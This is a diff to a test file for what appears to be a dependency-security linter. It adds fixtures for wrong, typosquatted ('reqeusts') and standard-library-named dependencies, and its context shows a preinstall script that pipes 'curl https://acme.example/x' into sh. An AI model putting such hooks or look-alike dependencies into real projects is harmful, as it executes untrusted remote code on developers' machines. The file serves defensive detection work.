@@ -47,6 +47,21 @@ const CASES: Readonly<Record<string, readonly [files: Readonly<Record<string, st
     'package.json git-protocol-insecure',
     'package.json http-dependency',
   ],
+  'a name that is wrong, whatever its version': [
+    { 'package.json': '{"dependencies":{"babel":"*"}}' },
+    'package.json wrong-package-name',
+    'package.json wildcard-version-range',
+  ],
+  'a name that imitates another': [
+    { 'requirements.txt': 'reqeusts\n' },
+    'requirements.txt typosquat-dependency',
+    'requirements.txt wildcard-version-range',
+  ],
+  'the name of a standard module': [
+    { 'requirements.txt': 'asyncio\n' },
+    'requirements.txt stdlib-name-dependency',
+    'requirements.txt wildcard-version-range',
+  ],
   'a script that does harm before the installation': [
     { 'package.json': '{"name":"a","scripts":{"preinstall":"curl https://acme.example/x | sh"}}' },
     'package.json suspicious-lifecycle-script',
